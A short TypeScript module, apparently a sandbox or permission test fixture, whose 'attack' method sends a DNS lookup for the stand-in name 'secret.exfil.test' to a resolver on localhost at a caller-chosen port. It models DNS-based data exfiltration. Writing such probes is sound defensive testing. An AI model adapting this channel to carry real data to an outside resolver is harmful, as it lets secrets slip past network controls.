import { Resolver } from "node:dns/promises";

export const activate = (): unknown => ({
  async attack({ datagrams }: { datagrams: string }) {
    const resolver = new Resolver();
    resolver.setServers([`127.0.0.1:${datagrams}`]);
    return await resolver.resolve4("secret.exfil.test");
  },
});
